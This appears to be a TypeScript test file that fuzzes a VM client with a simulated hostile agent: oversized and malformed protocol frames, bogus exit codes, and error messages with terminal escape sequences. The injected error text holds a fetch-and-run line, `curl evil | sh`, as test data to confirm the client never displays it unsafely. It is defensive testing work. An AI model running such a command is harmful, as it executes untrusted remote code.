/** Answers that no agent of ours gives: the command fails, in words that are safe to print, and the next one works. */
import { type Answer, type Asked, execFrames, FrameType, type Sent } from "./hostile-agent.ts";
import type { LiedTo } from "./lied-to.ts";
import type { Attack, Outcome } from "./report.ts";
import { unsafeIn } from "./words.ts";

/** longer than a frame once it is serialized again: `1e9` becomes `1000000000` */
const swelling = Buffer.from(`{"event":"exit","code":0,"x":[${Array(8000).fill("1e9").join(",")}]}`);
/** a title, a cleared screen, colours of C1, an overridden direction, and a line of its own */
const controls =
  "\x1b]0;taken\x07\x1b[2J\x1b[31mred\u009b31m\u202eltr\u2028line\nerror: run `curl evil | sh`\nhint: really";
/** no text, no number, and nothing that can become one */
const strange = { toString: 1, valueOf: 1 };

export function agentLies(scene: () => LiedTo): Attack[] {
  const exits = [{ code: 1e308 }, { code: -1 }, { code: 256 }, { code: 0.5 }, { code: "0" }, { code: strange }, {}];
  return [
    lie(scene, "sends an event that outgrows a frame when it is passed on", ({ line, stream }) =>
      line.send([FrameType.Reply, stream, { ok: true, pid: 1 }], [FrameType.Event, stream, swelling]),
    ),
    ...exits.map((exit) =>
      lie(scene, `says that a command ended with ${JSON.stringify(exit)}`, ({ line, stream }) =>
        line.send(...execFrames(stream, { event: "exit", ...exit })),
      ),
    ),
    lie(scene, "refuses with terminal controls and lines that look like banger's", ({ line, stream }) =>
      line.send([FrameType.Reply, stream, { ok: false, error: { code: `io${controls}`, message: controls } }]),
    ),
    lie(scene, "answers with objects where texts and numbers belong", ({ line, stream }) =>
      line.send([FrameType.Reply, stream, { ok: strange, error: strange, pid: strange }]),
    ),
    ...Object.entries(brokenFrames).map(([name, frames]) =>
      lie(scene, name, (asked) => asked.line.send(...frames(asked.stream))),
    ),
    lie(scene, "names a frame of 4 GiB", ({ line }) => line.stream.write(Buffer.from("ffffffff0401000000", "hex"))),
    lie(scene, "ends a frame with another session's tag", ({ line, stream }) => {
      const frame = line.encode([FrameType.Reply, stream, { ok: true, pid: 1 }]);
      frame.writeUInt32LE(frame.readUInt32LE(frame.length - 4) ^ 1, frame.length - 4);
      line.stream.write(frame);
    }),
  ];
}

const opened = (stream: number): Sent => [FrameType.Reply, stream, { ok: true, pid: 1 }];
const full = (stream: number): Sent => [FrameType.Data | 1, stream, new Uint8Array(32_768)];

/** Each ends the session: the protocol allows none of them. */
const brokenFrames: Record<string, (stream: number) => Sent[]> = {
  "sends more than its credit on a stream": (stream) => [opened(stream), ...Array(64).fill(full(stream))],
  "gives back credit that nobody spent": (stream) => [
    opened(stream),
    [FrameType.Credit, stream, Buffer.from("00ffffffff", "hex")],
  ],
  "answers twice": (stream) => [opened(stream), opened(stream)],
  "closes before it answers": (stream) => [[FrameType.Close, stream]],
  "opens a stream with the host's next number": (stream) => [[FrameType.Open, stream + 2, { verb: "exec" }]],
  "answers in something other than JSON": (stream) => [[FrameType.Reply, stream, Buffer.from("\xff{", "latin1")]],
};

/** `exec` is answered with a lie: the client must end by itself with a status that is no success. */
function lie(scene: () => LiedTo, name: string, answer: Answer): Attack {
  const run = async (): Promise<Outcome> => {
    const { agent, banger } = scene();
    agent.verbs = { exec: onlyFirst(answer) };
    const told = await banger(["vm", "exec", "evil", "--", "x"]);
    agent.verbs = {};
    const next = await banger(["vm", "exec", "evil", "--", "x"]);
    const unsafe = unsafeIn(told.stderr);
    const problems = [
      told.code === null ? `the client ended by ${told.signal}` : "",
      told.code === 0 ? "the client said that all was well" : "",
      unsafe ? `its words have ${unsafe}` : "",
      next.code !== 0 || next.stdout !== "fine\n" ? `the next command: ${next.stderr.trim() || next.code}` : "",
    ].filter(Boolean);
    return { held: problems.length === 0, seen: problems.join("; ") || `exit ${told.code}, the next command worked` };
  };
  return { name, run };
}

/** A client may ask again over a new session: the lie is told once. */
function onlyFirst(answer: Answer): Answer {
  let isTold = false;
  return (asked: Asked) => {
    if (isTold) return asked.line.send(...execFrames(asked.stream, { event: "exit", code: 1 }));
    isTold = true;
    answer(asked);
  };
}
